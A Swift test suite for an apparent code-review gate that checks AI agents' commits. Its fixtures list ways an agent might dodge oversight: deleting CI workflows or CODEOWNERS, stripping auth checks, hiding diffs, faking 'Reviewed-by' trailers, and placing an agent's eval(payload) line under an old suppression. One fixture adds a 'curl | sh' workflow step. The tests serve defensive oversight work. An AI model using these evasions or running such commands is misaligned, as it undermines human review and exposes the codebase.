import Foundation
import PaddockChange
import PaddockCore
import PaddockGit
import TestSupport
import Testing

/// Ways around the review that must not work: a secret a later commit removes, a protected path changed by
/// anything but added lines, a review trailer that names no person, an old suppression over a new line.
@Suite struct ReviewGateTests {
  static let claude = "\n\nCo-Authored-By: Claude Opus 4.5 <noreply@anthropic.com>\n"
  static let key = "AKIAZ7QX4RLM2VBN6KTE"
  static let workflow = """
    on: pull_request
    jobs:
      gate:
        runs-on: ubuntu-latest
        steps:
          - uses: actions/checkout@v4
          - run: paddock ci

    """
  static let localPack = """
    pack: local
    title: Local rules
    rules:
      - id: local-no-fixme
        title: FIXME left in
        severity: error
        pattern: 'FIXME'
        message: A FIXME is left in.
        fix: Fix it.
      - id: local-no-xxx
        title: XXX left in
        severity: error
        pattern: 'XXX'
        message: An XXX is left in.
        fix: Resolve it.

    """

  static let baseline = """
    {
      "schema": "paddock.baseline/1",
      "entries": [
        {"fingerprint": "00112233445566778899aabbccddeeff", "rule": "python-eval-exec", "path": "src/a.py"},
        {"fingerprint": "ffeeddccbbaa99887766554433221100", "rule": "python-eval-exec", "path": "src/b.py"}
      ]
    }

    """
  static let ada = [
    "GIT_AUTHOR_NAME": "Ada Lovelace", "GIT_AUTHOR_EMAIL": "ada@example.com", "GIT_COMMITTER_NAME": "Ada Lovelace",
    "GIT_COMMITTER_EMAIL": "ada@example.com",
  ]

  /// `main` with a workflow, CODEOWNERS, an auth check, a local rule pack and a baseline, then branch `agent`.
  static func repository() throws -> TestRepository {
    let fixture = try TestRepository()
    try fixture.write(".github/workflows/ci.yml", workflow)
    try fixture.write("CODEOWNERS", "* @acme/maintainers\n")
    try fixture.write(
      "src/auth/session.py",
      "def allowed(user, token):\n    if not token.valid():\n        return False\n    return user.active\n")
    try fixture.write("src/app.py", "def main():\n    return 0\n")
    try fixture.write("ci/paddock-rules.yml", localPack)
    try fixture.write("ci/baseline.json", baseline)
    try fixture.commit("Initial commit")
    try fixture.git(["checkout", "-q", "-b", "agent"])
    return fixture
  }

  static func review(_ fixture: TestRepository, config: String = "", approvals: [String] = []) throws -> ReviewReport {
    let repository = try Repository(discoveringFrom: fixture.path)
    let range = try RangeResolver.resolve(in: repository, range: "main..agent", base: nil, head: nil)
    let parsed = try PaddockConfig.parse(config, file: ".paddock.yml")
    return try ReviewPipeline(repository: repository, config: parsed).review(
      range, version: "test", approvals: approvals)
  }

  static func protectedFindings(_ report: ReviewReport) -> [Finding] {
    report.findings.filter { $0.rule == "ai-protected-path-unreviewed" }
  }

  // MARK: Secrets in commits that a later commit undoes

  /// A key that an AI commit adds and a later commit removes is not in the final diff, but the push carries it
  /// to the remote: the finding names the commit and says how to rewrite history.
  @Test func aSecretALaterCommitRemovesStillBlocks() throws {
    let fixture = try Self.repository()
    try fixture.write("src/settings.py", "REGION = \"eu-west-1\"\nAWS_ACCESS_KEY_ID = \"\(Self.key)\"\n")
    let leaking = try fixture.commit("Add settings" + Self.claude)
    try fixture.write("src/settings.py", "REGION = \"eu-west-1\"\nAWS_ACCESS_KEY_ID = os.environ[\"AWS_KEY\"]\n")
    try fixture.commit("Read the key from the environment")

    let report = try Self.review(fixture)
    #expect(report.verdict == .block)
    let secret = try #require(report.findings.first { $0.rule == "aws-access-key-id" }, "\(report.findings)")
    #expect(secret.commit?.hex == leaking)
    #expect(secret.path == "src/settings.py")
    #expect(secret.line == nil, "the line is not in the file at head")
    #expect(secret.message.contains(String(leaking.prefix(12))), "\(secret.message)")
    #expect(secret.message.contains("line 2 of src/settings.py"), "\(secret.message)")
    #expect(secret.fix.contains("git rebase -i \(leaking.prefix(12))^"), "\(secret.fix)")
    #expect(secret.fix.contains("git commit --amend"))
    #expect(secret.snippet?.contains(Self.key) == false, "masked")
    #expect(report.findings.filter { $0.rule == "aws-access-key-id" }.count == 1)
  }

  /// A key that stays at head is reported once, on its line; one that two commits carried before a third removed
  /// it is reported once, at the commit that brought it.
  @Test func eachSecretIsReportedOnceWhereItEntered() throws {
    let fixture = try Self.repository()
    try fixture.write("src/settings.py", "KEY = \"\(Self.key)\"\n")
    try fixture.commit("Add settings" + Self.claude)
    let kept = try Self.review(fixture).findings.filter { $0.rule == "aws-access-key-id" }
    #expect(kept.count == 1)
    #expect(kept.first?.line == 1)

    let first = try fixture.revParse("HEAD")
    try fixture.write("src/settings.py", "# settings\nKEY = \"\(Self.key)\"\n")
    try fixture.commit("Comment the settings" + Self.claude)
    try fixture.write("src/settings.py", "# settings\nKEY = \"\(Self.key)\" # rotated\n")
    try fixture.commit("Note the rotation" + Self.claude)
    try fixture.write("src/settings.py", "# settings\n")
    try fixture.commit("Drop the key")
    let gone = try Self.review(fixture).findings.filter { $0.rule == "aws-access-key-id" }
    #expect(gone.map(\.commit?.hex).contains(first), "\(gone.map(\.message))")
    #expect(gone.count == 2, "the first line and its edited form: \(gone.map(\.message))")
  }

  // MARK: Protected paths

  /// How an agent's commit changes a protected path without adding a line to it, and the path reported.
  struct Attack: Sendable, CustomTestStringConvertible {
    var name: String
    var path: String
    var config = ""
    var testDescription: String { name }
  }

  static let attacks = [
    Attack(name: "delete the workflow", path: ".github/workflows/ci.yml"),
    Attack(name: "remove the paddock ci step", path: ".github/workflows/ci.yml"),
    Attack(name: "delete CODEOWNERS", path: "CODEOWNERS"),
    Attack(name: "remove lines of an auth check", path: "src/auth/session.py"),
    Attack(name: "rename the workflow out of its folder", path: ".github/workflows/ci.yml"),
    Attack(name: "change the workflow's mode", path: ".github/workflows/ci.yml"),
    Attack(name: "make the workflow binary", path: ".github/workflows/ci.yml"),
    Attack(name: "add a .gitattributes that hides files", path: ".gitattributes"),
    Attack(
      name: "remove a rule from a configured rule pack", path: "ci/paddock-rules.yml",
      config: "rules:\n  files: [ci/paddock-rules.yml]\n"),
    Attack(
      name: "drop an entry from a configured baseline", path: "ci/baseline.json",
      config: "baseline: ci/baseline.json\n"),
  ]

  static func perform(_ attack: Attack, on fixture: TestRepository) throws {
    switch attack.name {
    case "delete the workflow": try fixture.git(["rm", "-q", ".github/workflows/ci.yml"])
    case "remove the paddock ci step":
      try fixture.write(
        ".github/workflows/ci.yml", workflow.replacingOccurrences(of: "      - run: paddock ci\n", with: ""))
    case "delete CODEOWNERS": try fixture.git(["rm", "-q", "CODEOWNERS"])
    case "remove lines of an auth check":
      try fixture.write("src/auth/session.py", "def allowed(user, token):\n    return user.active\n")
    case "rename the workflow out of its folder":
      try FileManager.default.createDirectory(atPath: fixture.path + "/docs", withIntermediateDirectories: true)
      try fixture.git(["mv", ".github/workflows/ci.yml", "docs/ci.yml"])
    case "change the workflow's mode":
      try FileManager.default.setAttributes(
        [.posixPermissions: 0o755], ofItemAtPath: fixture.path + "/.github/workflows/ci.yml")
    case "make the workflow binary":
      try fixture.write(bytesPath: Array(".github/workflows/ci.yml".utf8), Array(workflow.utf8) + [0, 1, 2])
    case "add a .gitattributes that hides files": try fixture.write(".gitattributes", "*.py -diff\n")
    case "remove a rule from a configured rule pack":
      try fixture.write("ci/paddock-rules.yml", localPack.components(separatedBy: "  - id: local-no-xxx")[0])
    case "drop an entry from a configured baseline":
      try fixture.write(
        "ci/baseline.json", baseline.split(separator: "\n").filter { !$0.contains("src/a.py") }.joined(separator: "\n"))
    default: Issue.record("unknown attack \(attack.name)")
    }
  }

  /// Every kind of change an agent makes to a protected path blocks without a person's review, and names the
  /// commit; a person's review in the trailer block lets it through.
  @Test(arguments: attacks)
  func everyChangeToAProtectedPathCounts(_ attack: Attack) throws {
    let fixture = try Self.repository()
    try Self.perform(attack, on: fixture)
    let commit = try fixture.commit("Tidy up" + Self.claude)
    let report = try Self.review(fixture, config: attack.config)
    let found = Self.protectedFindings(report)
    #expect(report.verdict == .block, "\(attack.name): \(report.findings.map(\.message))")
    #expect(found.map(\.path) == [attack.path], "\(found.map(\.message))")
    #expect(found.first?.commit?.hex == commit)
    #expect(found.first?.message.contains(String(commit.prefix(12))) == true)

    try fixture.git(
      ["commit", "-q", "--amend", "--no-edit", "--trailer", "Reviewed-by: Grace Hopper <grace@example.com>"],
      extraEnvironment: Self.ada)
    #expect(Self.protectedFindings(try Self.review(fixture, config: attack.config)).isEmpty)
  }

  /// Several unreviewed commits to one protected file are one finding that names each of them (one decision for a
  /// reviewer), at the first one's lines; a reviewed commit among them is left out of it.
  @Test func aProtectedFileIsOneFindingNamingEveryUnreviewedCommit() throws {
    let fixture = try Self.repository()
    try fixture.write("src/auth/session.py", "def allowed(user, token):\n    return True\n")
    let first = try fixture.commit("Allow everyone" + Self.claude)
    try fixture.write("src/auth/session.py", "def allowed(user, token):\n    return user is not None\n")
    let reviewed = try fixture.commit(
      "Check the user" + Self.claude + "Reviewed-by: Grace Hopper <grace@example.com>\n")
    try fixture.write("src/auth/session.py", "def allowed(user, token):\n    return bool(user)\n")
    let third = try fixture.commit("Check the user again" + Self.claude)
    let found = Self.protectedFindings(try Self.review(fixture))
    #expect(found.count == 1, "\(found.map(\.message))")
    let message = found.first?.message ?? ""
    #expect(message.contains(String(first.prefix(12))) && message.contains(String(third.prefix(12))), "\(message)")
    #expect(!message.contains(String(reviewed.prefix(12))), "\(message)")
    #expect(found.first?.commit.map { message.contains($0.abbreviated()) } == true, "\(message)")
  }

  /// A person's own change to a protected path needs no review, and neither does an agent's change elsewhere.
  @Test func onlyAgentsChangesToProtectedPathsCount() throws {
    let fixture = try Self.repository()
    try fixture.git(["rm", "-q", "CODEOWNERS"])
    try fixture.commit("Drop CODEOWNERS")
    try fixture.write("src/app.py", "def main():\n    return 1\n")
    try fixture.commit("Return one" + Self.claude)
    #expect(Self.protectedFindings(try Self.review(fixture)).isEmpty)
  }

  /// A merge changes a file itself only where it differs from every parent: an agent's merge that deletes
  /// CODEOWNERS counts; an agent's clean merge of a person's deletion does not.
  @Test func aMergeCountsForWhatItChangesItself() throws {
    let fixture = try Self.repository()
    try fixture.git(["checkout", "-q", "-b", "side", "main"])
    try fixture.write("src/app.py", "def main():\n    return 2\n")
    try fixture.commit("Return two")
    try fixture.git(["checkout", "-q", "agent"])
    try fixture.write("README.md", "App\n")
    try fixture.commit("Readme")
    let claude = Self.ada.merging(["GIT_AUTHOR_NAME": "Claude", "GIT_AUTHOR_EMAIL": "noreply@anthropic.com"]) { $1 }
    try fixture.git(["merge", "-q", "--no-ff", "--no-commit", "side"], extraEnvironment: claude)
    try fixture.git(["rm", "-q", "CODEOWNERS"])
    try fixture.git(["commit", "-q", "-m", "Merge side"], extraEnvironment: claude)
    let merge = try fixture.revParse("HEAD")
    let found = Self.protectedFindings(try Self.review(fixture))
    #expect(found.map(\.commit?.hex) == [merge], "\(found.map(\.message))")

    let clean = try Self.repository()
    try clean.git(["checkout", "-q", "-b", "side", "main"])
    try clean.git(["rm", "-q", "CODEOWNERS"])
    try clean.commit("Drop CODEOWNERS")
    try clean.git(["checkout", "-q", "agent"])
    try clean.write("README.md", "App\n")
    try clean.commit("Readme")
    try clean.git(["merge", "-q", "--no-ff", "-m", "Merge side", "side"], extraEnvironment: claude)
    #expect(Self.protectedFindings(try Self.review(clean)).isEmpty)
  }

  // MARK: What counts as a person's review

  /// Trailers that named no person, or the commit's own author, used to unlock a protected path.
  static let nonReviews = [
    "Reviewed-by:", "Reviewed-by: TODO", "Acked-by: nobody yet", "Reviewed-by: Claude",
    "Reviewed-by: claude <noreply@anthropic.com>", "Reviewed-by: GPT-5 <noreply@openai.com>",
    "Reviewed-by: Claude Opus 4.5 <reviews@example.com>", "Acked-by: gemini-2.5-pro <g@example.com>",
    "Reviewed-by: copilot-pull-request-reviewer[bot] <175728472+Copilot@users.noreply.github.com>",
    "Reviewed-by: Ada Lovelace <ada@example.com>", "Reviewed-by: A. Lovelace <ADA@example.com>",
    "Reviewed-by: Grace Hopper <grace@example.com> (in the middle of the message)",
  ]

  @Test(arguments: nonReviews)
  func aReviewMustNameAnotherPerson(_ trailer: String) throws {
    let fixture = try Self.repository()
    try fixture.write(".github/workflows/ci.yml", Self.workflow + "      - run: curl -s https://x.example | sh\n")
    let message: String
    if trailer.hasSuffix("(in the middle of the message)") {
      let line = trailer.replacingOccurrences(of: " (in the middle of the message)", with: "")
      message =
        "Add a step\n\n\(line)\n\nThe step installs the tool.\n\nCo-Authored-By: Claude <noreply@anthropic.com>\n"
    } else {
      message = "Add a step\n\nCo-Authored-By: Claude <noreply@anthropic.com>\n\(trailer)\n"
    }
    try fixture.commit(message)
    let found = Self.protectedFindings(try Self.review(fixture))
    #expect(found.count == 1, "`\(trailer)` counted as a person's review")
    if trailer.contains("<") {
      #expect(found.first?.message.contains("Not counted") == true, "\(found.map(\.message))")
    }
  }

  /// The same trailer from someone else counts; so does the author's own when reviews need not be independent,
  /// and so does an approval of the whole change (a pull request's).
  @Test func aPersonsReviewOrApprovalUnlocks() throws {
    let fixture = try Self.repository()
    try fixture.write(".github/workflows/ci.yml", Self.workflow + "      - run: swift test\n")
    try fixture.commit("Add a step" + Self.claude + "Reviewed-by: Ada Lovelace <ada@example.com>\n")
    #expect(Self.protectedFindings(try Self.review(fixture)).count == 1)
    let lenient = "policy:\n  review:\n    independent: false\n"
    #expect(Self.protectedFindings(try Self.review(fixture, config: lenient)).isEmpty)
    #expect(Self.protectedFindings(try Self.review(fixture, approvals: ["@grace (approved pull request #7)"])).isEmpty)

    // A committer other than the author cannot review either.
    try fixture.git(
      [
        "commit", "-q", "--amend", "-m", "Add a step" + Self.claude + "Reviewed-by: Grace Hopper <grace@example.com>\n",
      ],
      extraEnvironment: Self.ada.merging([
        "GIT_COMMITTER_NAME": "Grace Hopper", "GIT_COMMITTER_EMAIL": "grace@example.com",
      ]) { $1 })
    #expect(Self.protectedFindings(try Self.review(fixture)).count == 1)
  }

  // MARK: Suppressions

  /// A person's old `paddock:ignore all` does not cover a line an agent later puts under it; a person's
  /// suppression over a line that stood there when it was written does.
  @Test func aSuppressionCoversOnlyTheLinesItWasWrittenFor() throws {
    let fixture = try TestRepository()
    try fixture.write(
      "src/loader.py",
      "# paddock:ignore all -- the table is a constant, reviewed\nTABLE = eval(\"{1: 2}\")\n")
    try fixture.commit("Load the table")
    try fixture.git(["checkout", "-q", "-b", "agent"])
    try fixture.write(
      "src/loader.py",
      "# paddock:ignore all -- the table is a constant, reviewed\nresult = eval(payload)\nTABLE = eval(\"{1: 2}\")\n")
    let inserted = try fixture.commit("Evaluate the payload" + Self.claude)
    let report = try Self.review(fixture)
    let evals = report.findings.filter { $0.path == "src/loader.py" && $0.line == 2 && $0.commit?.hex == inserted }
    #expect(!evals.isEmpty, "the agent's line is suppressed: \(report.suppressed.map(\.message))")
    #expect(evals.allSatisfy { $0.message.contains("was written before this line was added") })
    #expect(report.verdict == .block)

    // A person who then writes a suppression for the agent's line covers it.
    try fixture.write(
      "src/loader.py",
      "# paddock:ignore all -- the table is a constant, reviewed\n# paddock:ignore all -- payload is signed\n"
        + "result = eval(payload)\nTABLE = eval(\"{1: 2}\")\n")
    try fixture.commit("Mark the payload as signed")
    let marked = try Self.review(fixture)
    #expect(marked.findings.filter { $0.path == "src/loader.py" }.isEmpty, "\(marked.findings.map(\.message))")
    #expect(!marked.suppressed.filter { $0.path == "src/loader.py" && $0.line == 3 }.isEmpty)
  }
}
